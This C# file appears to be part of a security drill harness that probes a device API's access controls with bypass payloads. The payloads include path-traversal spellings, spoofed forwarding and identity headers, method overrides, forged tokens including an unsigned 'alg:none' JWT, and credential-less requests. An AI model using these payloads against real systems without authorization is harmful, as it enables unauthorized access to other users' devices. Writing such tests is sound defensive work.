using System.Text;
using Breakwater.Drills.Romo.Attempts;
using Breakwater.Drills.Romo.Loot;

namespace Breakwater.Drills.Romo.Catalogue;

/// <summary>The public API through spellings, headers and tokens that confuse routers, proxies and parsers.</summary>
internal static class TrickAttempts
{
    public static IEnumerable<Attempt> All { get; } =
    [
        new HttpAttempt("path-tricks", "tricks", "Others' paths spelled so that a check may see an own robot and the router another", (context, _) =>
            from other in context.Loot.Others.Take(3)
            from path in Spellings(context.Loot.OwnerDevices[0].Id.ToString(), other.Id.ToString())
            select HttpAttempts.Probe(context, HttpMethod.Get, path, null)),
        new HttpAttempt("header-tricks", "tricks", "Others' paths with headers that proxies believe", (context, _) =>
            from other in context.Loot.Others.Take(3)
            from header in Headers(other)
            select HttpAttempts.Probe(context, HttpMethod.Get, $"/v1/devices/{other.Id}/twin", other) with { Headers = new Dictionary<string, string> { [header.Name] = header.Value } }),
        new HttpAttempt("rewrite-headers", "tricks", "An own path with headers that rewrite it to another's", (context, _) =>
            from other in context.Loot.Others.Take(3)
            from name in (string[])["X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Uri", "X-Forwarded-Prefix"]
            select HttpAttempts.Probe(context, HttpMethod.Get, $"/v1/devices/{context.Loot.OwnerDevices[0].Id}/twin", null) with
            {
                Headers = new Dictionary<string, string> { [name] = $"/v1/devices/{other.Id}/twin" },
            }),
        new HttpAttempt("method-override", "tricks", "GET that says it is PATCH or POST", (context, _) =>
            from other in context.Loot.Others.Take(3)
            from method in (string[])["PATCH", "POST", "DELETE"]
            select HttpAttempts.Probe(context, HttpMethod.Post, $"/v1/devices/{other.Id}/twin/desired", other) with
            {
                Headers = new Dictionary<string, string> { ["X-HTTP-Method-Override"] = method }, Body = "{}",
            }),
        new HttpAttempt("token-tricks", "tricks", "Others' robots with forged, cut, doubled and unsigned tokens", (context, _) =>
            from other in context.Loot.Others.Take(2)
            from authorization in Authorizations(context.Loot.OwnerToken)
            select HttpAttempts.Probe(context, HttpMethod.Get, $"/v1/devices/{other.Id}/twin", other) with { Authorization = authorization }),
        new HttpAttempt("token-elsewhere", "tricks", "The token in the query and in a cookie", (context, _) =>
            from other in context.Loot.Others.Take(2)
            from place in (string[])["?access_token=", "?token=", "?api_key="]
            select HttpAttempts.Probe(context, HttpMethod.Get, $"/v1/devices/{other.Id}/twin{place}{context.Loot.OwnerToken}", other) with { Authorization = null }),
        new HttpAttempt("no-token", "credential", "Others' robots without any credential", (context, _) =>
            context.Loot.Others.Select(other => HttpAttempts.Probe(context, HttpMethod.Get, $"/v1/devices/{other.Id}/twin", other) with { Authorization = null })),
    ];

    private static IEnumerable<string> Spellings(string own, string other) =>
    [
        $"/v1/devices/{own}/../{other}/twin", $"/v1/devices/{own}/..%2f{other}/twin", $"/v1/devices/{own}%2f..%2f{other}/twin", $"/v1/devices/{own}/%2e%2e/{other}/twin",
        $"/v1/devices/{own}/%252e%252e/{other}/twin", $"/v1/devices/{other.ToUpperInvariant()}/twin", $"/v1/devices/{other}/", $"/v1/devices/{other}/twin/", $"/v1//devices/{other}/twin",
        $"//v1/devices/{other}/twin", $"/v1/devices/{other};{own}/twin", $"/v1/devices/{own},{other}/twin", $"/v1/devices/{own}%00{other}/twin", $"/v1/devices/{own}?id={other}",
        $"/v1/devices/%{(int)other[0]:x2}{other[1..]}/twin", $"/v1/devices/%25{(int)other[0]:x2}{other[1..]}/twin", $"/v1/devices/{other}%20/twin", $"/v1/devices/{{{other}}}/twin",
        $"/v1/devices/{other[..8]}-{other[8..12]}-{other[12..16]}-{other[16..20]}-{other[20..]}/twin", $"/V1/DEVICES/{other}/TWIN", $"/v1/devices/{own}/twin/../../{other}/twin",
        $"/v1/devices/{own}\\..\\{other}/twin", $"/v1/devices/*/twin", "/v1/devices/%2a/telemetry/state", $"/v1/devices/{own}&id={other}/twin", $"/v2/devices/{other}/twin",
        $"/admin/v1/devices/{other}", $"/v1/../admin/v1/devices/{other}",
    ];

    private static IEnumerable<(string Name, string Value)> Headers(StolenName other) =>
    [
        ("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1"), ("Forwarded", "for=127.0.0.1;proto=https;by=operator"), ("X-Forwarded-Host", "admin.sock"), ("Host", "admin.sock"),
        ("Host", "localhost"), ("X-Forwarded-User", "operator:local"), ("X-Remote-User", "operator:local"), ("X-Principal", "operator:local"), ("X-Device-Id", other.Id.ToString()),
        ("X-Client-Cert", other.Id.ToString()), ("X-SSL-Client-S-DN", $"CN={other.Serial}"), ("X-Forwarded-Client-Cert", $"URI=urn:breakwater:device:{other.Id}"),
    ];

    private static IEnumerable<string> Authorizations(string token) =>
    [
        "Bearer " + Unsigned(), "Bearer", "Bearer ", "Bearer null", "Bearer undefined", $"Bearer {token[..^1]}", $"Bearer {token}x", $"Bearer {token} {token}", $"Bearer {token},Bearer {token}",
        "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes("admin:admin")), "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes($"operator:{token}")), $"Token {token}",
        "Negotiate " + token, "DPoP " + token,
    ];

    /// <summary>RFC 8725 §2.1: "alg":"none", in the operator's name.</summary>
    private static string Unsigned() =>
        $"{Base64Url("{\"alg\":\"none\",\"typ\":\"at+jwt\"}")}.{Base64Url("{\"sub\":\"operator:local\",\"scope\":\"devices:read twin:read\",\"exp\":9999999999}")}.";

    private static string Base64Url(string text) => System.Buffers.Text.Base64Url.EncodeToString(Encoding.UTF8.GetBytes(text));
}
